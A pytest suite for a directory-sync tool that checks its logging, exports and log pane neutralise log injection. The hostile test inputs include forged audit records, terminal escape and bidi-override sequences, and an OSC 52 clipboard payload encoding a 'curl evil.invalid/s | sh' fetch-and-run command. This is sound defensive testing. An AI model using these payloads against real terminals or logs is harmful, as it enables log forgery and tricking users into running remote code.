"""One record is one line (plus its traceback), whatever text it carries.

Hostile values (line breaks of every kind, terminal escapes, bidi controls,
markup, '%' formats, long values, secrets with controls in them) are logged
through the real set-up (setup_logging of logs/setup.py into a throw-away home) as the
message and as arguments, at several levels and loggers, with and without a
traceback. Then the log files, `export_log`, the `logs export` command, the
live log pane's handler and its file follower are read: every line is one of
the records logged or a prefixed continuation of one, none carries a control
character, no registered secret shows. The end-to-end test has the Identity
emulator refuse a user with a detail that forges a record, during a real sync
against Samba.
"""

from __future__ import annotations

import io
import logging
import os
import re
import shutil
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smartsync_tui.logs.event_log import audit, export_log
from smartsync_tui.logs.setup import AUDIT_LOGGER, LOG_DATE_FORMAT, LOG_FORMAT, setup_logging
from smartsync_tui.config.paths import Home, resolve_home
from smartsync_tui.core.redaction import RedactingFilter, install_log_redaction, register_secret
from smartsync_tui.config.secret_store import SecretStore
from smartsync_tui.core.text import CONTINUATION_PREFIX, CONTROL, escaped
from smartsync_tui.ui import log_bridge
from tests.support.hostile import hostile_piece
from tests.support.logs import close_file_logging

ROOT = Path(__file__).resolve().parent.parent
# A record's first line as logs/setup.py writes it: time and zone, level, logger, message.
RECORD = re.compile(r"^(?P<stamp>\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}[+-]\d{4}) (?P<level>[A-Z]+) (?P<logger>\S+) (?P<rest>.*)$")
# The same in the log pane, which shows the time only.
PANE_RECORD = re.compile(r"^(?P<stamp>\d{2}:\d{2}:\d{2}) (?P<level>[A-Z]+) (?P<logger>\S+) (?P<rest>.*)$")
# What a line must never start with unless it is a record we logged: a date, perhaps after blanks.
LOOKS_LIKE_A_RECORD = re.compile(r"^\s*\d{4}-\d{2}-\d{2}")
FORGED = "2026-01-01T00:00:00+0000 CRITICAL smartsync.audit admin.deleted: every directory deleted (user=root)"

# Beside the display pieces every hostile-text test shares (tests/support/hostile.py): what
# a log line is attacked with: every line break str.splitlines knows, a record and a
# traceback to forge, the continuation prefix itself, and %-formats.
LOG_PIECES = [
    "\r\n", "\x0b", "\x0c", "\x1c", "\u2029", "\u061c", "%d", "%%", "%", "\\n",
    FORGED, "\n" + FORGED, "\nTraceback (most recent call last):\n", CONTINUATION_PREFIX,
]
_piece_or_text = st.one_of(hostile_piece, st.sampled_from(LOG_PIECES), st.text(max_size=12))
hostile = st.one_of(
    st.lists(_piece_or_text, max_size=6).map("".join),
    # 500-character values, built of hostile pieces.
    st.lists(_piece_or_text, min_size=1, max_size=4).map(lambda parts: ("".join(parts) or "x") * 500).map(lambda s: s[:520]),
)

LEVELS = [logging.INFO, logging.WARNING, logging.ERROR, logging.CRITICAL]
LOGGERS = ["smartsync", "smartsync.sync", "smartsync.identity", AUDIT_LOGGER]
HOWS = ["message", "tuple", "dict", "object", "audit"]


class Shown:
    """An argument whose str() carries the hostile text (an exception, an LDAP value object)."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __str__(self) -> str:
        return self.text

    def __repr__(self) -> str:
        return f"Shown({self.text})"  # raw on purpose: %r must not let controls through either


@dataclass(frozen=True)
class Event:
    how: str
    logger: str
    level: int
    value: str
    with_secret: bool
    exc: bool


events = st.lists(
    st.builds(Event, st.sampled_from(HOWS), st.sampled_from(LOGGERS), st.sampled_from(LEVELS), hostile,
              st.booleans(), st.booleans()),
    min_size=1, max_size=8,
)
secret_part = st.sampled_from(["\n", "\r\n", "\x1b[0m", "\x85", "\u202e", "\u2028", "%s", " "])


@dataclass
class Logged:
    """What a test logged: marker -> (level name, logger, has a traceback), per log file."""

    application: dict[str, tuple[str, str, bool]]
    console: dict[str, tuple[str, str, bool]]
    secrets: list[str]


def _log(items: list[Event], secret: str) -> Logged:
    """Log each event through the handlers in place; every record carries a unique marker."""
    register_secret(secret)
    tag = uuid.uuid4().hex[:8]
    logged = Logged({}, {}, [secret])
    for i, event in enumerate(items):
        marker = f"<<{tag}-{i}>>"
        value = f"{event.value} pw={secret}" if event.with_secret else event.value
        exc_info = None
        if event.exc:
            try:
                raise ValueError(f"{value} {FORGED}\n{value}")
            except ValueError:
                exc_info = sys.exc_info()
        if event.how == "audit":
            # The console log's own writer: value as the message and as a field.
            audit("test.hostile", f"{marker} {value}", directory=value)
            logged.console[marker] = ("INFO", AUDIT_LOGGER, False)
            continue
        log = logging.getLogger(event.logger)
        if event.how == "message":
            log.log(event.level, f"{marker} {value}", exc_info=exc_info)
        elif event.how == "tuple":
            log.log(event.level, "%s item %s failed: %s (%d of %d, %.1f%%)", marker, value, value, 3, 7, 42.5,
                    exc_info=exc_info)
        elif event.how == "dict":
            log.log(event.level, "%(m)s detail %(v)s, %(n)d left, %(v)r", {"m": marker, "v": value, "n": 2},
                    exc_info=exc_info)
        else:
            log.log(event.level, "%s value %s and %r", marker, Shown(value), Shown(value), exc_info=exc_info)
        target = logged.console if event.logger == AUDIT_LOGGER else logged.application
        target[marker] = (logging.getLevelName(event.level), event.logger, event.exc)
    return logged


def _groups(lines: list[str], record: re.Pattern[str] = RECORD) -> list[list[str]]:
    """Lines grouped as records: a record's first line and the continuation lines after it."""
    groups: list[list[str]] = []
    for line in lines:
        if record.match(line):
            groups.append([line])
        else:
            assert groups, f"a continuation line before any record: {line!r}"
            groups[-1].append(line)
    return groups


def _assert_safe(name: str, text: str, expected: dict[str, tuple[str, str, bool]], secrets: list[str], *,
                 record: re.Pattern[str] = RECORD, extra: int = 0) -> None:
    """``text`` (a log, an export) holds exactly the ``expected`` records (plus ``extra`` of its own), safely."""
    lines = text.split("\n")
    if lines and lines[-1] == "":
        lines.pop()
    for line in lines:
        assert not CONTROL.search(line), f"{name}: a control character in {line!r}"
    for secret in secrets:
        assert secret not in text and escaped(secret) not in text, f"{name}: a secret shows"
    groups = _groups(lines, record)
    seen: dict[str, list[str]] = {}
    for group in groups:
        first = record.match(group[0])
        assert first is not None
        markers = re.findall(r"<<[0-9a-f]{8}-\d+>>", first.group("rest"))
        for line in group[1:]:
            assert line.startswith(CONTINUATION_PREFIX), f"{name}: {line!r} is neither a record nor a continuation"
            assert not LOOKS_LIKE_A_RECORD.match(line)
        if not markers:
            continue  # a record of the agent's own (an export's audit line)
        marker = markers[0]
        assert marker not in seen, f"{name}: {marker} written twice"
        seen[marker] = group
        level, logger, has_traceback = expected[marker]
        assert (first.group("level"), first.group("logger")) == (level, logger), group[0]
        # The traceback stays with its record, and a record without one has no continuation line.
        assert any("Traceback (most recent call last):" in line for line in group[1:]) == has_traceback, group
        if not has_traceback:
            assert len(group) == 1, group
    assert sorted(seen) == sorted(expected), f"{name}: records missing or added"
    assert len(groups) == len(expected) + extra, f"{name}: {len(groups)} records for {len(expected)} logged"


def _new_home() -> Home:
    # Not pytest's tmp_path: hypothesis runs the test body many times per fixture.
    return resolve_home(Path(tempfile.mkdtemp(prefix="smartsync-log-lines-")) / "home").ensure()


def _remove(home: Home) -> None:
    shutil.rmtree(home.config_dir.parent, ignore_errors=True)


def _read(home: Home, name: str) -> str:
    return (home.log_dir / name).read_text(encoding="utf-8")


def _examples(count: int) -> settings:
    # Each example writes, reads and exports real log files: slower than hypothesis' default deadline.
    return settings(max_examples=count, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])


@_examples(60)
@given(events, secret_part)
def test_hostile_values_never_forge_a_record_in_the_logs_their_export_or_the_pane(items, part):
    home = _new_home()
    pane = follower = None
    try:
        setup_logging(home)
        pane = log_bridge.install()
        follower = log_bridge.FileFollower(home.log_dir / "application.log", from_start=True)
        logged = _log(items, f"Secret-{uuid.uuid4().hex[:6]}{part}{uuid.uuid4().hex[:6]}")
        close_file_logging()

        application, console = _read(home, "application.log"), _read(home, "console.log")
        _assert_safe("application.log", application, logged.application, logged.secrets)
        _assert_safe("console.log", console, logged.console, logged.secrets)

        # export_log: what a period of each log gives (the application export audits itself in console.log).
        setup_logging(home)
        out = home.data_dir / "exports"
        out.mkdir()
        if logged.application:
            export_log(home, "application", None, None, out / "application.txt")
            _assert_safe("application export", (out / "application.txt").read_text(encoding="utf-8"),
                         logged.application, logged.secrets)
        export_log(home, "console", None, None, out / "console.txt")
        _assert_safe("console export", (out / "console.txt").read_text(encoding="utf-8"), logged.console,
                     logged.secrets, extra=1 if logged.application else 0)

        # The live pane: what its handler hands over, and what the file follower reads.
        handed = pane.drain()
        assert len(handed) == len(logged.application)  # one entry a record
        for _level, text in handed:
            # The pane splits with str.splitlines (every Unicode line break): only the traceback's \n may be there.
            assert text.splitlines() == text.split("\n")
        _assert_safe("pane", "\n".join(text for _level, text in handed), logged.application, logged.secrets,
                     record=PANE_RECORD)
        followed = follower.drain()
        assert [text for _level, text in followed] == application.split("\n")[:-1]  # already safe: unchanged
    finally:
        if pane is not None:
            log_bridge.uninstall(pane)
        if follower is not None:
            follower.close()
        close_file_logging()
        _remove(home)


def _cli_export(home: Home, log: str, out: Path) -> str:
    env = {**os.environ}
    env.pop("SMARTSYNC_HOME", None)
    done = subprocess.run(
        [sys.executable, "-m", "smartsync_tui", "--home", str(home.config_dir.parent), "logs", "export",
         "--log", log, "-o", str(out)],
        capture_output=True, text=True, cwd=ROOT, env=env, timeout=60,
    )
    assert done.returncode == 0, done.stderr
    for stream in (done.stdout, done.stderr):
        assert not CONTROL.search(stream.replace("\n", ""))
    return out.read_text(encoding="utf-8")


@_examples(4)
@given(events.filter(lambda items: any(e.how != "audit" and e.logger != AUDIT_LOGGER for e in items)), secret_part)
def test_the_logs_export_command_prints_hostile_records_as_logged(items, part):
    home = _new_home()
    try:
        setup_logging(home)
        logged = _log(items, f"Secret-{uuid.uuid4().hex[:6]}{part}{uuid.uuid4().hex[:6]}")
    finally:
        close_file_logging()  # the command writes to these files itself
    out = home.data_dir
    # The command runs in another process, which knows no secret: the lines were masked when written.
    try:
        _assert_safe("logs export application", _cli_export(home, "application", out / "application.txt"),
                     logged.application, logged.secrets)
        _assert_safe("logs export console", _cli_export(home, "console", out / "console.txt"),
                     logged.console, logged.secrets, extra=1)
    finally:
        _remove(home)


# -- the filter itself


def _one_line(message: str, *args: object, exc: BaseException | None = None) -> str:
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(levelname)s %(message)s"))
    install_log_redaction(handler)
    logger = logging.getLogger("smartsync.test-log-lines")
    logger.addHandler(handler)
    try:
        if exc is not None:
            try:
                raise exc
            except BaseException:  # noqa: BLE001
                logger.exception(message, *args)
        else:
            logger.warning(message, *args)
    finally:
        logger.removeHandler(handler)
    return stream.getvalue()


def test_formatting_works_as_without_the_filter():
    assert _one_line("%d of %d at %.1f%% (%s)", 3, 7, 42.5, "100% done") == "WARNING 3 of 7 at 42.5% (100% done)\n"
    assert _one_line("%(a)s/%(n)03d %(a)r", {"a": "x\ny", "n": 7}) == "WARNING x\\ny/007 'x\\ny'\n"
    assert _one_line("%s", Shown("a\x1b]52;c;eA==\x07b")) == "WARNING a\\x1b]52;c;eA==\\x07b\n"
    assert _one_line("%s %s", "[/x]", "%(x)s") == "WARNING [/x] %(x)s\n"
    assert _one_line("no arguments: %s %d 100%") == "WARNING no arguments: %s %d 100%\n"


def test_a_message_that_does_not_fit_its_arguments_is_kept_not_raised():
    # Logging would otherwise lose it (or, with a filter that formats, raise into the caller).
    line = _one_line("detail %d", "not a number\nCRITICAL forged")
    assert line.count("\n") == 1
    assert line.startswith("WARNING detail %d ") and "not a number\\nCRITICAL forged" in line


def test_a_secret_with_controls_in_it_is_masked_everywhere():
    secret = f"Pa55\n{uuid.uuid4().hex[:8]}\x1b[0m\u202e"
    register_secret(secret)
    line = _one_line("bind with %s", secret, exc=ValueError(f"wrong password {secret}"))
    assert secret not in line and escaped(secret) not in line
    assert line.split("\n")[0] == "ERROR bind with ***"
    assert line.split("\n")[-2] == CONTINUATION_PREFIX + "ValueError: wrong password ***"


def test_an_exception_message_cannot_forge_a_record():
    line = _one_line("apply failed", exc=RuntimeError(f"boom\n{FORGED}\r{FORGED}\x85{FORGED}"))
    lines = line.rstrip("\n").split("\n")
    assert lines[0] == "ERROR apply failed"
    assert all(item.startswith(CONTINUATION_PREFIX) for item in lines[1:])
    assert lines[-2:] == [CONTINUATION_PREFIX + "RuntimeError: boom",
                          CONTINUATION_PREFIX + f"{FORGED}\\r{FORGED}\\x85{FORGED}"]


def test_a_stack_is_rendered_like_a_traceback():
    stream = io.StringIO()
    handler = install_log_redaction(logging.StreamHandler(stream))
    logger = logging.getLogger("smartsync.test-stack")
    logger.addHandler(handler)
    try:
        logger.warning("where\nam I", stack_info=True)
    finally:
        logger.removeHandler(handler)
    first, *rest = stream.getvalue().rstrip("\n").split("\n")
    assert first == "where\\nam I"
    assert rest[0] == CONTINUATION_PREFIX + "Stack (most recent call last):"
    assert all(line.startswith(CONTINUATION_PREFIX) for line in rest)


def test_a_record_through_two_handlers_is_made_safe_once():
    streams = [io.StringIO(), io.StringIO()]
    logger = logging.getLogger("smartsync.test-two-handlers")
    handlers = [logging.StreamHandler(stream) for stream in streams]
    for handler in handlers:
        handler.setFormatter(logging.Formatter(LOG_FORMAT, datefmt=LOG_DATE_FORMAT))
        install_log_redaction(handler)
        logger.addHandler(handler)
    try:
        try:
            raise ValueError("a\nb")
        except ValueError:
            logger.exception("x\ny")
    finally:
        for handler in handlers:
            logger.removeHandler(handler)
    first, second = (stream.getvalue() for stream in streams)
    assert first == second
    assert "x\\ny\n" in first and f"\n{CONTINUATION_PREFIX}ValueError: a\n{CONTINUATION_PREFIX}b\n" in first


def test_every_handler_the_agent_sets_up_has_the_filter(tmp_path):
    home = resolve_home(tmp_path / "home").ensure()
    pane = None
    try:
        setup_logging(home)
        pane = log_bridge.install()
        handlers = [h for name in ("smartsync", AUDIT_LOGGER) for h in logging.getLogger(name).handlers
                    if not isinstance(h, logging.NullHandler)]
        assert len(handlers) >= 3  # application.log, console.log, the pane
        for handler in handlers:
            assert any(isinstance(f, RedactingFilter) for f in handler.filters), handler
    finally:
        if pane is not None:
            log_bridge.uninstall(pane)
        close_file_logging()


def test_every_logging_handler_made_in_the_code_gets_the_filter():
    # A handler made elsewhere (a stderr handler for `run`, a file for a new log) writes
    # raw records unless it is given the filter: the file that makes it must install it.
    made = re.compile(r"\b(?:logging\.)?(?:StreamHandler|FileHandler|RotatingFileHandler|TimedRotatingFileHandler|"
                      r"SysLogHandler|WatchedFileHandler|SocketHandler|QueueHandler)\(")
    missing = []
    for path in (ROOT / "smartsync_tui").rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if made.search(source) and "install_log_redaction(" not in source:
            missing.append(str(path.relative_to(ROOT)))
    assert missing == []
    # The agent's own handler classes install it themselves.
    assert any(isinstance(f, RedactingFilter) for f in log_bridge.ConsoleLogHandler().filters)


def test_lines_followed_from_an_older_file_are_made_safe(tmp_path):
    secret = f"Old-{uuid.uuid4().hex[:8]}-secret"
    register_secret(secret)
    path = tmp_path / "application.log"
    path.write_bytes(
        f"2026-01-01T10:00:00+0000 WARNING smartsync.sync x\x1b]52;c;eA==\x07 {secret}\x85{FORGED}\u202e\r\n"
        "  File \"x.py\"\n".encode()
    )
    follower = log_bridge.FileFollower(path, from_start=True)
    try:
        lines = follower.drain()
    finally:
        follower.close()
    assert lines == [
        (logging.WARNING, f"2026-01-01T10:00:00+0000 WARNING smartsync.sync x\\x1b]52;c;eA==\\x07 ***\\x85{FORGED}\\u202e"),
        (logging.WARNING, "  File \"x.py\""),
    ]


def test_an_export_of_lines_an_older_version_wrote_raw_is_safe(tmp_path):
    home = resolve_home(tmp_path / "home").ensure()
    (home.log_dir / "application.log").write_bytes(
        f"2026-01-01T10:00:00+0000 WARNING smartsync.sync refused: x\r{FORGED}\x1b]52;c;eA==\x07\u202e\r\n"
        "Traceback (most recent call last):\n"
        f"ValueError: y\r{FORGED}\n".encode()
    )
    out = tmp_path / "old.txt"
    try:
        assert export_log(home, "application", None, None, out) == 3
    finally:
        close_file_logging()
    assert out.read_text(encoding="utf-8").split("\n") == [
        f"2026-01-01T10:00:00+0000 WARNING smartsync.sync refused: x\\r{FORGED}\\x1b]52;c;eA==\\x07\\u202e",
        "Traceback (most recent call last):",
        f"ValueError: y\\r{FORGED}",
        "",
    ]


# -- end to end: Identity's words in a real sync


def test_the_emulator_refuses_an_item_with_the_detail_asked_for(emulator):
    from tests.test_emulator_api import group, register, user

    agent = register(emulator)
    try:
        detail = f"refused\n{FORGED}\x1b[2J"
        emulator.refuse(agent.directory_id, user(2)["external_id"], detail)
        emulator.refuse(agent.directory_id, group(1, [])["external_id"], "no groups today")
        results = agent.users_batch([user(1), user(2), user(3)])
        assert [r["status"] for r in results] == ["created", "failed", "created"]
        assert results[1] == {"external_id": user(2)["external_id"], "id": None, "status": "failed", "detail": detail}
        assert agent.groups_batch([group(1, [])])[0]["detail"] == "no groups today"
        assert sorted(u["login"] for u in emulator.users(agent.directory_id)) == ["user1", "user3"]  # not applied
        emulator.clear_refusals(agent.directory_id)
        assert agent.users_batch([user(2)])[0]["status"] == "created"
        assert emulator.admin.post(f"/admin/directories/{agent.directory_id}/refusals", json={"detail": 1}).status_code == 400
        assert emulator.admin.post("/admin/directories/nope/refusals", json={"external_id": "x", "detail": ""}).status_code == 404
    finally:
        emulator.clear_refusals(agent.directory_id)
        agent.http.close()



# What the emulator answers for the refused user: a line break, then a back-dated
# audit record; a clipboard write, a C1 CSI screen clear, a bidi override.
DETAIL = f"login refused\n{FORGED}\x1b]52;c;Y3VybCBldmlsLmludmFsaWQvcyB8IHNo\x07\x9b2J\u202egnp.exe\u2028{FORGED}"


def _sync_with_a_refused_user(home: Home, guid: str, emulator_url: str, identity_directory: str,
                              sync: Callable[[], object], tmp_path: Path, *, admin_headers: dict[str, str]) -> None:
    """Sync with Identity refusing ``guid`` with :data:`DETAIL`; then every log and export shows it as data."""
    close_file_logging()  # whoever set up logging before: this home's files, once each
    handler = setup_logging(home)
    pane = log_bridge.install()
    admin = httpx.Client(base_url=emulator_url, timeout=30.0, headers=admin_headers)
    refusals = f"/admin/directories/{identity_directory}/refusals"
    try:
        admin.post(refusals, json={"external_id": guid, "detail": DETAIL}).raise_for_status()
        try:
            result = sync()
        finally:
            admin.delete(refusals).raise_for_status()
        assert result.outcome == "partial", result
        handler.flush()
        handed = pane.drain()
    finally:
        admin.close()
        log_bridge.uninstall(pane)
        close_file_logging()

    texts = {name: _read(home, name) for name in ("application.log", "console.log")}
    setup_logging(home)  # the application export is audited in the console log, exported next
    try:
        for log in ("application", "console"):
            export_log(home, log, None, None, tmp_path / f"{log}.txt")
            texts[f"{log}.txt"] = (tmp_path / f"{log}.txt").read_text(encoding="utf-8")
    finally:
        close_file_logging()
    texts["logs export"] = _cli_export(home, "application", tmp_path / "cli.txt")
    texts["pane"] = "\n".join(text for _level, text in handed)
    for name, text in texts.items():
        assert not CONTROL.search(text.replace("\n", "")), name
        lines = text.splitlines()
        assert lines == text.split("\n")[: len(lines)], f"{name}: a line break other than \\n"
        for line in lines:
            # The forged record is only ever inside a real one, escaped: no line starts with it.
            assert FORGED[:24] not in line[:30], f"{name}: {line}"
            if LOOKS_LIKE_A_RECORD.match(line):
                assert RECORD.match(line) and RECORD.match(line).group("level") != "CRITICAL", f"{name}: {line}"
    for name in ("application.log", "application.txt", "logs export", "pane"):
        refused = [line for line in texts[name].splitlines() if guid in line and "failed:" in line]
        assert len(refused) == 1, (name, refused)
        assert refused[0].endswith(f"failed: {escaped(DETAIL)}"), refused[0]
        assert (RECORD if name != "pane" else PANE_RECORD).match(refused[0]).group("level", "logger") == (
            "WARNING", "smartsync.sync")
    assert "CRITICAL" not in texts["console.txt"] and "admin.deleted" not in texts["console.txt"]


@pytest.mark.samba
def test_a_detail_from_identity_cannot_forge_a_record_with_samba(sync_env, tmp_path):
    dn = sync_env.ad.add_user("forger", "Fábio", "Forja [SP]")
    _sync_with_a_refused_user(sync_env.home, sync_env.ad.guid(dn), sync_env.emulator.url, sync_env.identity_directory,
                              sync_env.sync, tmp_path, admin_headers=sync_env.emulator.admin_headers)


def test_a_detail_from_identity_cannot_forge_a_record_with_the_in_memory_directory(tmp_path):
    from smartsync_tui.demo import command as demo_cmd
    from smartsync_tui.config.settings import load_settings
    from smartsync_tui.store.state_store import StateStore
    from smartsync_tui.engine.results import SyncOptions
    from smartsync_tui.engine.sync import SyncEngine

    demo = demo_cmd.prepare(use_samba=False, workdir=tmp_path / "demo")
    state = StateStore(demo.home.state_db)
    try:
        assert demo.memory is not None and demo.directory is not None
        demo.memory.add_person({"sam": "forger", "name": "Fábio Forja [SP]", "given": "Fábio", "sn": "Forja [SP]",
                                "mail": f"forger@{demo.memory.realm.lower()}"})  # without one: skipped, no login
        # The in-memory directory's GUIDs are derived from the account name (see MemoryDC.add_person).
        guid = str(uuid.uuid5(uuid.NAMESPACE_DNS, f"forger.{demo.memory.realm}"))
        engine = SyncEngine(load_settings(demo.home.settings_file), SecretStore(demo.home.secrets_file), state)
        _sync_with_a_refused_user(demo.home, guid, demo.emulator.url, demo.identity_directory,
                                  lambda: engine.run(demo.directory.id, SyncOptions()), tmp_path,
                                  admin_headers=demo.emulator.admin_headers)
    finally:
        state.close()
        close_file_logging()
        demo.close()
